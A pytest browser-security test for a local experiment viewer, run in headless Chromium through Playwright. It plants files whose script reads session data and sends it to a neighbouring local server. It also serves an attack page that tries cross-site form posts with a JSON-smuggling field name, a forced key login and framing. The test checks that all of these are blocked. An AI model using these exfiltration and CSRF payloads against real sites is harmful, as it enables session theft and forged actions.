"""The viewer against a planted file and a page next door, in a real browser (Debian's Chromium,
headless, Playwright with the system executable), through `tuner serve` as a user starts it.

A page server on another port of 127.0.0.1 plays the neighbour: the same site as the viewer for
cookies (SameSite=Strict does not tell ports apart), another origin for the browser. It records
every request it gets, so a script that ran (a planted one phoning home, a remote image) shows."""

from __future__ import annotations

import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sessionkit import browser_marks, launch, serve

pytestmark = browser_marks()

# What a planted file would do if its script ran: read the sessions and send them next door.
STEAL = (
    "fetch('/api/sessions').then(r => r.text()).then(t => fetch('{next}/stolen?' + t.length, {{mode: 'no-cors'}}));"
    "fetch('{next}/ran', {{mode: 'no-cors'}});"
)


class NextDoor:
    """Pages served from another port; ``asked``: the paths requested of it."""

    def __init__(self):
        self.pages: dict[str, tuple[str, str]] = {}
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                outer.asked.append(self.path.split("?")[0])
                kind, body = outer.pages.get(self.path.split("?")[0], ("text/plain", ""))
                self.send_response(200 if self.path.split("?")[0] in outer.pages else 404)
                self.send_header("Content-Type", kind)
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def next_door():
    n = NextDoor()
    yield n
    n.close()


@pytest.fixture
def planted(env, next_door):
    folder = env.root / "reports" / "planted"
    folder.mkdir(parents=True)
    script = STEAL.format(next=next_door.url)
    (folder / "page.html").write_text(f"<!doctype html><title>t</title><script>{script}</script>")
    (folder / "image.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>')
    (folder / "chart.png").write_text(f"<!doctype html><script>{script}</script>")  # not what its name says
    (folder / "report.md").write_text(
        f"# Planted\n\n![pixel]({next_door.url}/pixel.png) [out]({next_door.url}/out)\n\n"
        f'<img src="{next_door.url}/img.png">\n'
    )
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def served(env, planted):
    yield from serve(env.root)


def test_planted_files_and_a_page_next_door_cannot_act(env, store, planted, next_door, served, tmp_path, monkeypatch):
    from playwright.sync_api import Error, expect, sync_playwright

    from tuner.apikeys import create_key
    from tuner.sessions import get_label, list_sessions

    login, base = served
    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # Chromium writes its profile under $HOME
    key = list_sessions(store, limit=1).items[0].key
    secret = create_key(store, "browser").secret
    # The control: Chromium runs an SVG's script when nothing stops it.
    next_door.pages["/control.svg"] = (
        "image/svg+xml",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('/control-ran')</script></svg>",
    )
    change = f'{{"sessions": ["{key}"], "status": "golden", "x": "'
    next_door.pages["/attack.html"] = (
        "text/html",
        f"""<!doctype html>
<iframe id="framed" src="{base}/runs"></iframe>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe>
<form id="labels" method="post" action="{base}/api/labels" enctype="text/plain" target="sink1">
  <input type="hidden" name='{change}' value='"}}'></form>
<form id="another" method="post" action="{base}/login/another" target="sink2"></form>
<script>
  document.getElementById("labels").submit();
  document.getElementById("another").submit();
  fetch("{base}/login/key", {{method: "POST", mode: "no-cors", credentials: "include",
        headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{key: "{secret}"}})}});
</script>""",
    )
    answers: list[tuple[str, str, int]] = []
    refused_own: list[str] = []  # what the policy refused on the viewer's own pages
    with sync_playwright() as p:
        browser = launch(p)
        try:
            context = browser.new_context(accept_downloads=True)
            context.on("response", lambda r: answers.append((r.request.method, r.url, r.status)))
            page = context.new_page()
            page.goto(login)
            expect(page.locator("h1")).to_have_text("Experiments")

            page.goto(f"{next_door.url}/control.svg")
            page.wait_for_timeout(300)
            assert "/control-ran" in next_door.asked  # the planted SVG below would run, but for the viewer's policy

            for name in ("image.svg", "chart.png"):
                page.goto(f"{base}/reports/planted/{name}")
                page.wait_for_load_state("load")
            page.wait_for_timeout(300)
            assert "/ran" not in next_door.asked, f"a planted file's script ran: {next_door.asked}"
            with page.expect_download() as download:
                try:
                    page.goto(f"{base}/reports/planted/page.html")
                except Error as e:  # a download is not a page
                    assert "Download is starting" in e.message
            assert download.value.suggested_filename == "page.html"
            page.goto(f"{base}/reports/planted/report.md")
            expect(page.locator("article.report h1")).to_have_text("Planted")
            expect(page.locator("article.report")).to_contain_text(f"![pixel]({next_door.url}/pixel.png)")

            cookie = context.cookies(base)
            page.goto(f"{next_door.url}/attack.html")
            page.wait_for_timeout(1500)
            # frame-ancestors 'none': the browser shows its own error page instead of the viewer's
            assert page.locator("#framed").element_handle().content_frame().url.startswith("chrome-error://")

            # The viewer's own scripts and same-origin changes still work: a second browser logs in with the key.
            assert context.cookies(base) == cookie  # the key login next door did not replace this browser's session
            second = browser.new_context()
            second.on("response", lambda r: answers.append((r.request.method, r.url, r.status)))
            other = second.new_page()
            other.on("console", lambda m: refused_own.append(m.text) if "Content Security Policy" in m.text else None)
            other.goto(f"{base}/evals")
            other.fill("#key-login input[name=key]", secret)
            other.click("#key-login button[type=submit]")
            expect(other.locator("h1")).to_have_text("Experiments")
            other.click("header button:has-text('Log out')")
            expect(other.locator("p.msg")).to_contain_text("Logged out")
            other.goto(f"{base}/runs")
            expect(other.locator("#key-login")).to_be_visible()
        finally:
            browser.close()
    assert not {"/stolen", "/ran", "/pixel.png", "/img.png", "/out"} & set(next_door.asked), next_door.asked
    assert not [a for a in answers if a[1].startswith(base + "/api/sessions")], "a planted script reached the API"
    posts = sorted(
        {
            (url.removeprefix(base), status)
            for method, url, status in answers
            if method == "POST" and url.startswith(base)
        }
    )
    # Next door: every change refused; the second browser: its key login and its log out went through.
    assert posts == [("/api/labels", 403), ("/login/another", 403), ("/login/key", 200), ("/logout", 200)], posts
    assert get_label(store, key).eval_status == "needs_review"
    assert not refused_own, refused_own
